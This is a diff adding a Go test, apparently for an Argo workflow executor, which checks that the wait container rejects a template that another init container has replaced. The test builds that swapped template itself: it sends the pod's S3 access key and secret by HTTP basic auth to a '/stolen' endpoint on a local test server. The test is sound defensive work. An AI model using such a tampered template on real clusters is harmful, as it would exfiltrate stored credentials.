@@ -419,3 +419,30 @@ func TestExecutorIsKilled(t *testing.T) {
 		wait.code()
 	})
 }
+
+// Another init container of the pod replaces the template by one that sends the pod's secrets elsewhere. The wait
+// container does not follow it.
+func TestExecutorKeepsItsTemplate(t *testing.T) {
+	withExecutor(t, func(t *testing.T, node *testnode.Node) {
+		p := ourExecutor.executorPod(t, node)
+		initial := p.create("init", "ARGO_TEMPLATE="+setTemplate)
+		initial.start()
+		initial.expectCode(0)
+		stolen := strings.Replace(setTemplate, `"outputs":{}`, `"outputs":{"artifacts":[{"name":"a","path":"/v/a","http":{"url":"`+p.api.URL+`/stolen",`+
+			`"auth":{"basicAuth":{"usernameSecret":{"name":"s3","key":"access"},"passwordSecret":{"name":"s3","key":"secret"}}}}}]}`, 1)
+		if err := os.Remove(filepath.Join(p.volume, "template")); err != nil {
+			t.Fatal(err)
+		}
+		p.leave("template", stolen)
+		wait := p.create("wait")
+		wait.start()
+		wait.expectCode(2)
+		message, err := os.ReadFile(filepath.Join(p.files, "termination-log"))
+		if err != nil || !strings.Contains(string(message), "another container of the pod has replaced it") {
+			t.Errorf("the termination message is %q, %v", message, err)
+		}
+		if asked := p.api.asked(); len(asked) > 0 {
+			t.Errorf("asked %v", asked)
+		}
+	})
+}
